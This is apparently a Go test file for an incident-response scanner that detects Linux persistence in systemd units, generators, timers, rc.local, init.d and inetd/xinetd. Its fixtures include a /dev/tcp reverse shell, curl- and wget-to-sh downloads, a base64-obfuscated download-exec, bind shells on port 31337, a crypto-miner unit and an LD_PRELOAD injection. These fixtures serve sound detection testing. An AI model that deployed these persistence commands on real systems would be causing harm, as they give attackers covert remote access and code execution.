package services

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// clean is the lived-in fixture root with its dpkg database.
var clean = &dpkgfixture.Root{Clean: "testdata/clean.txtar", Owners: "testdata/owners.json"}

// fixture materialises the clean root plus extra txtar files, with the
// clean root's dpkg database (owners from testdata/owners.json).
func fixture(t testing.TB, extra string) string {
	t.Helper()
	return clean.Make(t, extra)
}

func describe(f model.Finding) string {
	return f.Severity.String() + " " + f.RuleID + " [" + f.Subject + "] " + f.Evidence.Path + ":" + strconv.Itoa(f.Evidence.Line) +
		" " + f.Evidence.Text + " " + strings.Join(f.Indicators, ",") + " user=" + f.Evidence.User + " when=" + f.Evidence.When
}

func TestCleanLivedIn(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, ""), false)
	seen := false
	for _, f := range r.Findings {
		if f.RuleID == ruleSystemdUnit && f.Subject == "syncthing.service" && f.Severity == model.Low {
			continue // not enabled, still listed: no package installed it
		}
		if f.RuleID == ruleSystemdUnit && f.Subject == "backup.service" && f.Severity == model.Low {
			seen = true
			if f.Evidence.User != "ops" || f.Evidence.When != "login" || f.Evidence.Package != model.NoPackage ||
				f.Evidence.Path != "/home/ops/.config/systemd/user/backup.service" || f.Evidence.Line != 6 {
				t.Errorf("user unit evidence: %+v", f.Evidence)
			}
			continue
		}
		t.Errorf("false positive: %s", describe(f))
	}
	if !seen {
		t.Error("the user's enabled backup.service is not inventoried")
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap: %+v", g)
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name, extra, rule, subject string
		min                        model.Severity
		ind, user, when            string
	}{
		{"dropin replaces ssh ExecStart", "-- etc/systemd/system/ssh.service.d/override.conf --\n[Service]\nExecStart=\nExecStart=/usr/local/sbin/sshd-helper -D\n",
			ruleSystemdOverride, "ssh.service", model.Medium, "exec-override", "root", "boot"},
		{"dropin adds reverse shell to ssh", "-- etc/systemd/system/ssh.service.d/10-post.conf --\n[Service]\nExecStartPost=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1 &'\n",
			ruleSystemdCommand, "ssh.service", model.Critical, "reverse-shell.dev-tcp", "root", "boot"},
		{"unowned enabled unit in var tmp", "-- etc/systemd/system/sysmon.service --\n[Unit]\nDescription=System monitor\n[Service]\nExecStart=/var/tmp/.x/sysmon\nRestart=always\n[Install]\nWantedBy=multi-user.target\n-- etc/systemd/system/multi-user.target.wants/sysmon.service -> /etc/systemd/system/sysmon.service --\n",
			ruleSystemdCommand, "sysmon.service", model.High, "writable-location", "root", "boot"},
		{"user unit miner", "-- home/dev/.config/systemd/user/dbus-session.service --\n[Service]\nExecStart=/home/dev/.cache/kdevtmpfsi --donate-level 1 -o pool.supportxmr.com:443\nRestart=always\n[Install]\nWantedBy=default.target\n-- home/dev/.config/systemd/user/default.target.wants/dbus-session.service -> /home/dev/.config/systemd/user/dbus-session.service --\n",
			ruleSystemdCommand, "dbus-session.service", model.Critical, "miner", "dev", "login"},
		{"generator", "-- etc/systemd/system-generators/net-helper mode=0755 --\n#!/bin/sh\ncurl -fsS http://203.0.113.7/g | sh\n",
			ruleSystemdGenerator, "net-helper", model.Critical, "download-exec", "root", "boot"},
		{"generator elf", "-- usr/local/lib/systemd/system-generators/zz-gen mode=0755 --\n\x7fELF\x02\x01\n",
			ruleSystemdGenerator, "zz-gen", model.High, "not-from-package", "root", "boot"},
		{"timer triggers download", "-- etc/systemd/system/apt-refresh.timer --\n[Timer]\nOnCalendar=*:0/10\n[Install]\nWantedBy=timers.target\n-- etc/systemd/system/apt-refresh.service --\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'wget -q -O- http://203.0.113.7/a.sh | sh'\n-- etc/systemd/system/timers.target.wants/apt-refresh.timer -> /etc/systemd/system/apt-refresh.timer --\n",
			ruleSystemdCommand, "apt-refresh.service", model.Critical, "download-exec", "root", "schedule"},
		{"ld_preload environment", "-- etc/systemd/system/cron.service.d/env.conf --\n[Service]\nEnvironment=\"LD_PRELOAD=/usr/lib/libcext.so\" \"TZ=UTC\"\n",
			ruleSystemdCommand, "cron.service", model.High, "ld-preload", "root", "boot"},
		{"type-wide dropin", "-- etc/systemd/system/service.d/00-audit.conf --\n[Service]\nExecStartPre=-/usr/local/bin/audit-hook\n",
			ruleSystemdOverride, "service", model.High, "applies-to-all-units", "root", "boot"},
		{"masquerade", "-- etc/systemd/system/systemd-journal-sync.service --\n[Service]\nExecStart=/usr/local/bin/jsync --daemon\n[Install]\nWantedBy=multi-user.target\n",
			ruleSystemdMasquerade, "systemd-journal-sync.service", model.Medium, "masquerade-name", "root", "boot"},
		{"full copy changes cron", "-- etc/systemd/system/cron.service --\n[Unit]\nDescription=Regular background program processing daemon\n[Service]\nExecStart=/usr/local/sbin/crond -f\n[Install]\nWantedBy=multi-user.target\n",
			ruleSystemdOverride, "cron.service", model.Medium, "exec-override", "root", "boot"},
		{"packaged unit modified", "-- usr/lib/systemd/system/rsyslog.service --\n[Service]\nType=notify\nExecStartPre=/bin/sh -c 'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvciB8IHNo | base64 -d | sh'\nExecStart=/usr/sbin/rsyslogd -n -iNONE\n",
			ruleSystemdCommand, "rsyslog.service", model.High, "modified-package-file", "root", "boot"},
		{"socket bind shell", "-- etc/systemd/system/rescue-shell.socket --\n[Socket]\nListenStream=31337\nAccept=yes\n[Install]\nWantedBy=sockets.target\n-- etc/systemd/system/rescue-shell@.service --\n[Service]\nExecStart=/bin/bash -i\nStandardInput=socket\nStandardError=socket\n-- etc/systemd/system/sockets.target.wants/rescue-shell.socket -> /etc/systemd/system/rescue-shell.socket --\n",
			ruleSystemdCommand, "rescue-shell@.service", model.Critical, "bind-shell", "root", "event"},
		{"world-writable unit", "-- etc/systemd/system/app.service mode=0666 --\n[Service]\nExecStart=/usr/bin/true\n",
			ruleServicePerms, "/etc/systemd/system/app.service", model.High, "writable-by-non-root", "root", "boot"},
		{"rc.local curl sh", "-- etc/rc.local mode=0755 --\n#!/bin/sh -e\ncurl -s http://203.0.113.7/r.sh | sh\nexit 0\n",
			ruleRclocalCommand, "/etc/rc.local", model.Critical, "download-exec", "root", "boot"},
		{"rc.local benign line", "-- etc/rc.local mode=0755 --\n#!/bin/sh -e\necho never > /sys/kernel/mm/transparent_hugepage/enabled\nexit 0\n",
			ruleRclocalEntry, "/etc/rc.local", model.Low, "at-boot", "root", "boot"},
		{"init.d payload", "-- etc/init.d/sysstatd mode=0755 --\n#!/bin/sh\n### BEGIN INIT INFO\n# Provides: sysstatd\n### END INIT INFO\ncase \"$1\" in\nstart)\n  nohup /dev/shm/.d/statd >/dev/null 2>&1 &\n  ;;\nesac\n-- etc/rc2.d/S99sysstatd -> ../init.d/sysstatd --\n",
			ruleInitdCommand, "sysstatd", model.High, "writable-location", "root", "boot"},
		{"init.d unowned enabled", "-- etc/init.d/myapp mode=0755 --\n#!/bin/sh\n### BEGIN INIT INFO\n# Provides: myapp\n### END INIT INFO\nDAEMON=/opt/myapp/bin/myapp\ncase \"$1\" in\nstart) start-stop-daemon --start --background --exec $DAEMON ;;\nesac\n-- etc/rc3.d/S02myapp -> ../init.d/myapp --\n",
			ruleInitdScript, "myapp", model.Medium, "not-from-package", "root", "boot"},
		{"rc link outside init.d", "-- etc/rc3.d/S99local -> /tmp/.boot/run --\n-- tmp/.boot/run mode=0755 --\n#!/bin/sh\n",
			ruleInitdCommand, "S99local", model.High, "writable-location", "root", "boot"},
		{"xinetd shell", "-- etc/xinetd.d/sysadm --\nservice sysadm\n{\n\tdisable\t= no\n\ttype\t= UNLISTED\n\tport\t= 31337\n\tsocket_type\t= stream\n\tprotocol\t= tcp\n\twait\t= no\n\tuser\t= root\n\tserver\t= /bin/bash\n\tserver_args\t= -i\n}\n",
			ruleInetdShell, "sysadm", model.Critical, "bind-shell", "root", "event"},
		{"inetd bind shell via tcpd", "-- etc/inetd.conf --\n#<off># ftp\tstream\ttcp\tnowait\troot\t/usr/sbin/tcpd\t/usr/sbin/in.ftpd\n31337\tstream\ttcp\tnowait\troot\t/usr/sbin/tcpd\t/bin/sh sh -i\n",
			ruleInetdShell, "31337", model.Critical, "bind-shell", "root", "event"},
		{"inetd unowned program", "-- etc/inetd.conf --\nfinger\tstream\ttcp\tnowait\tnobody\t/usr/local/sbin/fingerd\tfingerd\n-- usr/local/sbin/fingerd mode=0755 --\n#!/bin/sh\necho nobody here\n",
			ruleInetdService, "finger", model.Medium, "not-from-package", "nobody", "event"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			for _, f := range r.Findings {
				t.Logf("%s", describe(f))
			}
			var got *model.Finding
			for i, f := range r.Findings {
				if f.RuleID == tc.rule && f.Subject == tc.subject && (tc.ind == "" || contains(f.Indicators, tc.ind)) {
					if got == nil || f.Severity > got.Severity {
						got = &r.Findings[i]
					}
				}
			}
			if got == nil {
				t.Fatalf("no %s finding for %s with indicator %q", tc.rule, tc.subject, tc.ind)
			}
			if got.Severity < tc.min {
				t.Errorf("severity %s, want at least %s: %s", got.Severity, tc.min, describe(*got))
			}
			if got.Evidence.User != tc.user || got.Evidence.When != tc.when {
				t.Errorf("evidence user/when = %q/%q, want %q/%q", got.Evidence.User, got.Evidence.When, tc.user, tc.when)
			}
			if got.Evidence.Package == "" && !strings.HasPrefix(tc.rule, "persistence.service.") {
				t.Errorf("package not looked up: %+v", got.Evidence)
			}
		})
	}
}

func TestTimerTechnique(t *testing.T) {
	r := enginetest.Run(t, New(), fixture(t, "-- etc/systemd/system/x.timer --\n[Timer]\nOnBootSec=5min\nUnit=y.service\n-- etc/systemd/system/y.service --\n[Service]\nExecStart=/dev/shm/y\n-- etc/systemd/system/timers.target.wants/x.timer -> /etc/systemd/system/x.timer --\n"), false)
	for _, f := range r.Find(ruleSystemdCommand) {
		if f.Subject == "y.service" {
			if f.Technique != "T1053.006" || f.Evidence.When != "schedule" || f.Evidence.Extra["started_by"] != "timer" {
				t.Errorf("timer-started service: technique %q when %q extra %v", f.Technique, f.Evidence.When, f.Evidence.Extra)
			}
			return
		}
	}
	t.Errorf("y.service not reported: %v", r.Rules())
}

func TestSilent(t *testing.T) {
	tests := []struct {
		name, extra string
		max         model.Severity // highest severity allowed
	}{
		{"limits dropin", "-- etc/systemd/system/nginx.service.d/limits.conf --\n[Service]\nLimitNOFILE=65535\nRestart=always\n", model.Low},
		{"getty autologin", "-- etc/systemd/system/getty@tty1.service.d/autologin.conf --\n[Service]\nExecStart=\nExecStart=-/sbin/agetty -o '-p -f -- \\\\u' --noclear --autologin ops %I $TERM\n", model.Low},
		{"admin app unit", "-- etc/systemd/system/myapp.service --\n[Unit]\nDescription=My app\nAfter=network-online.target\n[Service]\nUser=myapp\nWorkingDirectory=/opt/myapp\nEnvironmentFile=-/etc/default/myapp\nEnvironment=LD_LIBRARY_PATH=/opt/myapp/lib\nExecStart=/opt/myapp/bin/server --port 8080\nRestart=on-failure\n[Install]\nWantedBy=multi-user.target\n-- etc/systemd/system/multi-user.target.wants/myapp.service -> /etc/systemd/system/myapp.service --\n", model.Low},
		{"user tool", "-- home/ops/.config/systemd/user/syncthing.service --\n[Service]\nExecStart=%h/.local/bin/syncthing serve --no-browser\n[Install]\nWantedBy=default.target\n-- home/ops/.config/systemd/user/default.target.wants/syncthing.service -> /home/ops/.config/systemd/user/syncthing.service --\n", model.Low},
		{"masked unowned unit", "-- usr/local/lib/systemd/system/legacy.service --\n[Service]\nExecStart=/usr/local/bin/legacy\n-- etc/systemd/system/legacy.service -> /dev/null --\n-- etc/systemd/system/multi-user.target.wants/legacy.service -> /usr/local/lib/systemd/system/legacy.service --\n", model.Low},
		{"debian rc.local exit 0", "-- etc/rc.local mode=0755 --\n#!/bin/sh -e\n#\n# rc.local\n#\nexit 0\n", model.Low},
		{"disabled unowned unit", "-- etc/systemd/system/oneoff.service --\n[Service]\nType=oneshot\nExecStart=/usr/local/sbin/migrate-db\n", model.Low},
		{"init.d not enabled", "-- etc/init.d/oldapp mode=0755 --\n#!/bin/sh\necho started\n", model.Low},
		{"xinetd packaged-style disabled internal", "-- etc/xinetd.d/echo --\nservice echo\n{\n\tdisable\t\t= yes\n\ttype\t\t= INTERNAL\n\tid\t\t= echo-stream\n\tsocket_type\t= stream\n\tprotocol\t= tcp\n\tuser\t\t= root\n\twait\t\t= no\n}\n", model.Low},
		{"docker unit from a tarball install", "-- etc/systemd/system/docker.service --\n[Service]\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\nExecReload=/bin/kill -s HUP $MAINPID\n[Install]\nWantedBy=multi-user.target\n-- etc/systemd/system/multi-user.target.wants/docker.service -> /etc/systemd/system/docker.service --\n", model.Low},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			for _, f := range r.Findings {
				if f.Severity > tc.max {
					t.Errorf("false positive: %s", describe(f))
				}
			}
			for _, g := range r.Gaps {
				t.Errorf("unexpected gap: %+v", g)
			}
		})
	}
}

func TestHostile(t *testing.T) {
	extra := "-- etc/systemd/system/loop.service -> loop.service --\n" +
		"-- etc/systemd/system/fifo.service fifo --\n" +
		"-- etc/systemd/system/bad\xff.service --\n[Service]\nExecStart=/tmp/x\n" +
		"-- etc/systemd/system/junk.service --\nno section\n[Service\nExecStart\n\x00\x01\n[Service]\nExecStart=/usr/bin/true \\\n" +
		"-- etc/init.d/pipe fifo --\n" +
		"-- etc/xinetd.d/broken --\nservice x {\nserver = /bin/sh\n"
	root := fixture(t, extra)
	big := "[Service]\n" + strings.Repeat("Environment=A=B\n", fileLimit/16+10)
	if err := os.WriteFile(filepath.Join(root, "etc/systemd/system/huge.service"), []byte(big), 0o644); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), root, false)
	gaps := map[string]bool{}
	for _, g := range r.Gaps {
		gaps[g.Path] = true
	}
	for _, p := range []string{"/etc/systemd/system/loop.service", "/etc/systemd/system/fifo.service", "/etc/systemd/system/huge.service", "/etc/init.d/pipe"} {
		if !gaps[p] {
			t.Errorf("no gap for %s: %v", p, gaps)
		}
	}
	if !r.Has(ruleSystemdCommand, "bad\xff.service") {
		t.Errorf("non-UTF-8 unit name not graded")
	}
	if !r.Has(ruleInetdShell, "x") {
		t.Errorf("unterminated xinetd block not graded")
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func BenchmarkServices(b *testing.B) {
	root := fixture(b, "-- etc/systemd/system/sysmon.service --\n[Service]\nExecStart=/var/tmp/.x/sysmon\n")
	d := New()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		enginetest.Run(b, d, root, false)
	}
}

// TestNoPackageDB: without a package database nothing is known-good, so
// ordinary jobs are inventoried, but nothing ordinary is graded above info.
func TestNoPackageDB(t *testing.T) {
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	// Every enabled unit is inventoried: the engine's flood folding is
	// not what this test is about.
	r := enginetest.RunTarget(t, New(), target.NewUnchecked(testutil.RootFromString(t, string(clean)), false), engine.Options{MaxPerRule: -1})
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, f := range r.Findings {
		if f.Evidence.Package != "" {
			t.Errorf("package %q claimed without a database: %s", f.Evidence.Package, describe(f))
		}
	}
}
